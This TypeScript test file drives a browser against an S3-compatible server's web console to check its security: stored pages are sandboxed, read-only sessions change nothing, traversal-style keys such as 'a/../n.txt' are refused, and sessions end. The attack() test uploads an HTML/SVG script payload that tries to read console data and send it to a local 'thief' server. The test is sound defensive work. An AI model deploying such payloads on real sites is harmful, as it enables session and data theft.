import { createServer } from 'node:http'
import type { Browser, HTTPRequest } from 'puppeteer-core'
import t, { type Test } from 'tap'
import { type Dealgate, startDealgate } from '../support/server/dealgate.js'
import { listen } from '../support/server/listen.js'
import { send } from '../support/sign/send.js'
import { startBrowser, Tab } from './browser.js'

t.test('safety', async (t) => {
  const browser = await startBrowser(t)
  if (!browser) return
  const server = await startDealgate(t, { args: ['--console-port', '0'] })
  await send(server, { method: 'PUT', target: '/photos' })
  await t.test('a stored page cannot reach the console', (t) => attack(t, browser, server))
  await t.test('a session that only reads changes nothing', (t) => readOnly(t, browser, server))
  await t.test('what is not selected stays as it is', (t) => selected(t, browser, server))
  await t.test('a session stays in its tab, and ends', (t) => staying(t, browser, server))
})

/** As an attacker would who can store objects, and whose page a person visits who is signed in. */
async function attack(t: Test, browser: Browser, server: Dealgate): Promise<void> {
  const taken: string[] = []
  const thief = createServer((incoming, outgoing) => {
    taken.push(incoming.url ?? '')
    outgoing.writeHead(204, { 'access-control-allow-origin': '*' }).end()
  })
  const url = await listen(thief)
  t.teardown(() => thief.close())
  const page = `<!doctype html><title>page</title><script>
    const tell = (what) => fetch('${url}/' + what)
    tell('ran')
    try { tell('storage-' + sessionStorage.length) } catch {}
    fetch('${server.console}/config.json').then(() => tell('read')).catch(() => {})
    const opened = window.open('${server.console}')
    setTimeout(() => { try { tell('document-' + opened.document.title) } catch {} }, 500)
  </script><iframe src="${server.console}"></iframe>`
  const policy = {
    Version: '2012-10-17',
    Statement: [{ Effect: 'Allow', Principal: '*', Action: 's3:GetObject', Resource: 'arn:aws:s3:::public/*' }],
  }
  await send(server, { method: 'PUT', target: '/public' })
  await send(server, { method: 'PUT', target: '/public?policy', body: Buffer.from(JSON.stringify(policy)) })
  for (const [name, type] of [
    ['page.html', 'text/html'],
    ['page.svg', 'image/svg+xml'],
  ] as const)
    await send(server, {
      method: 'PUT',
      target: `/public/${name}`,
      headers: { 'content-type': type },
      body: Buffer.from(page),
    })

  const tab = await Tab.open(t, browser, server)
  await tab.signIn({ boxes: ['Stay signed in in this tab'] })
  const { page: visited } = tab
  for (const name of ['page.html', 'page.svg']) {
    const answer = await visited.goto(`${server.endpoint}/public/${name}`)
    t.equal(answer?.status(), 200)
    t.equal(answer?.headers()['content-security-policy'], 'sandbox')
  }
  // A page of another origin, with scripts that run.
  const other = createServer((_, outgoing) =>
    outgoing.writeHead(200, { 'content-type': 'text/html' }).end('<title>other</title>'),
  )
  const address = await listen(other)
  t.teardown(() => other.close())
  await visited.goto(address)
  const outcome = await visited.evaluate(`(async () => {
    const refused = (url, init) => fetch(url, init).then(() => 'read', () => 'refused')
    await fetch('${url}/scripts-of-another-page')
    return [await refused('${server.console}/config.json'), await refused('${server.endpoint}/', { headers: { authorization: 'AWS4-HMAC-SHA256 x' } })]
  })()`)
  t.same(outcome, ['refused', 'refused'])
  t.same(taken, ['/scripts-of-another-page'], 'no script of a stored page ran')
}

async function readOnly(t: Test, browser: Browser, server: Dealgate): Promise<void> {
  await send(server, { method: 'PUT', target: '/photos/mine/a.txt', body: Buffer.from('a') })
  const tab = await Tab.open(t, browser, server)
  await tab.signIn({ boxes: ['Read only'] })
  await tab.sees('Sign out', 'Read only')
  await tab.click('link', 'photos')
  await tab.click('checkbox', 'Select mine/')
  await tab.click('button', 'Delete…')
  await tab.click('button', 'Delete 1 object', 'Access')
  t.notMatch(await tab.text(), 'Done:')
  t.equal((await send(server, { method: 'HEAD', target: '/photos/mine/a.txt' })).status, 200)
  await tab.goTo('#/buckets')
  await tab.click('button', 'Create bucket')
  await tab.fill('Name', 'more-photos')
  await tab.click('button', 'Create', 'AccessDenied')
  t.equal((await send(server, { method: 'HEAD', target: '/more-photos' })).status, 404)
  t.same(tab.complaints, [])
}

const LIFECYCLE = `<LifecycleConfiguration><Rule><ID>all</ID><Filter><Prefix></Prefix></Filter><Status>Enabled</Status>
  <Expiration><Days>400</Days></Expiration></Rule></LifecycleConfiguration>`

async function selected(t: Test, browser: Browser, server: Dealgate): Promise<void> {
  const read = async (target: string) => (await send(server, { method: 'GET', target })).body.toString()
  await send(server, { method: 'PUT', target: '/dots' })
  for (const key of ['n.txt', 'a/../n.txt', 'inner/f.txt'])
    await send(server, { method: 'PUT', target: `/dots/${key}`, body: Buffer.from(key) })
  const tab = await Tab.open(t, browser, server)
  await tab.signIn()

  // A browser would request the address of the object n.txt.
  await tab.goTo('#/buckets/dots/objects?prefix=a%2F..%2F')
  await tab.click('checkbox', 'Select n.txt')
  await tab.click('button', 'Tag…')
  await tab.fill('Tag', 'kind')
  await tab.click('button', 'Set tag', 'UnreachableKey')
  await tab.click('button', 'Cancel')
  await tab.click('button', 'Copy or move…')
  await tab.fill('To prefix', 'b/../')
  await tab.click('button', 'Copy', 'UnreachableKey')
  await tab.click('button', 'Cancel')
  t.notMatch(await read('/dots/n.txt?tagging'), /<Key>/)
  t.equal(await read('/dots/n.txt'), 'n.txt')
  await tab.click('button', 'Delete…')
  await tab.click('button', 'Delete 1 object', '1 object deleted')
  t.same((await read('/dots')).match(/<Key>[^<]*/g), ['<Key>inner/f.txt', '<Key>n.txt'])

  await tab.goTo('#/buckets/dots/objects')
  await tab.click('checkbox', 'Select inner/')
  await tab.click('button', 'Copy or move…')
  await tab.fill('To prefix', 'inner/copy/')
  await tab.click('button', 'Copy', 'The target is inside the folder inner/')
  await tab.click('button', 'Cancel')
  t.same((await read('/dots')).match(/<Key>[^<]*/g), ['<Key>inner/f.txt', '<Key>n.txt'])

  await tab.goTo('#/buckets/dots/object', 'nor one without a name')

  // Copies that are on their way when the dialog is stopped never arrive, and no further ones are sent.
  for (let i = 0; i < 8; i++) await send(server, { method: 'PUT', target: `/dots/many/${i}`, body: Buffer.from('x') })
  await tab.goTo('#/buckets/dots/objects?prefix=many%2F')
  await tab.click('checkbox', 'Select all rows of this page')
  await tab.click('button', 'Copy or move…')
  await tab.fill('To prefix', 'stopped/')
  await tab.page.setRequestInterception(true)
  const holdPuts = (request: HTTPRequest) => void (request.method() === 'PUT' || request.continue())
  tab.page.on('request', holdPuts)
  await tab.click('button', 'Copy')
  await tab.click('button', 'Stop', '0 objects copied before the stop')
  tab.page.off('request', holdPuts)
  await tab.page.setRequestInterception(false)
  t.notMatch(await read('/dots?prefix=stopped/'), '<Key>')

  await send(server, { method: 'PUT', target: '/dots?lifecycle', body: Buffer.from(LIFECYCLE) })
  await tab.goTo('#/buckets/dots/settings/lifecycle')
  await tab.click('button', 'Lifecycle rules as XML', 'Remove lifecycle rules')
  const texts = '[...document.querySelectorAll("textarea")].map(({ value }) => value)'
  const text = String(await tab.page.evaluate(`${texts}.find((text) => text.includes('Lifecycle'))`))
  await tab.fill('Lifecycle rules, XML', text.replace('400', '500'))
  await tab.click('button', 'Save lifecycle rules', 'Lifecycle rules: saved')
  t.match(await read('/dots?lifecycle'), /<Days>500/)
  t.match(await read('/dots?lifecycle'), /<Prefix><\/Prefix>|<Prefix ?\/>/)
  t.same(tab.complaints, [])
}

async function staying(t: Test, browser: Browser, server: Dealgate): Promise<void> {
  const tab = await Tab.open(t, browser, server)
  await tab.signIn()
  t.equal(await tab.page.evaluate('sessionStorage.length + localStorage.length + document.cookie.length'), 0)
  await tab.page.reload()
  await tab.signIn({ boxes: ['Stay signed in in this tab'] })
  t.notMatch(await tab.page.evaluate('JSON.stringify(sessionStorage)'), server.secretKey)
  await tab.page.reload()
  await tab.sees('Sign out')
  await tab.click('button', 'Sign out', 'Sign in to dealgate')
  t.equal(await tab.page.evaluate('sessionStorage.length'), 0)
  await tab.fill('Access key id', server.accessKey)
  await tab.fill('Secret access key', 'wrong-secret')
  await tab.click('button', 'Sign in', 'SignatureDoesNotMatch')
  t.same(tab.complaints, [])
}
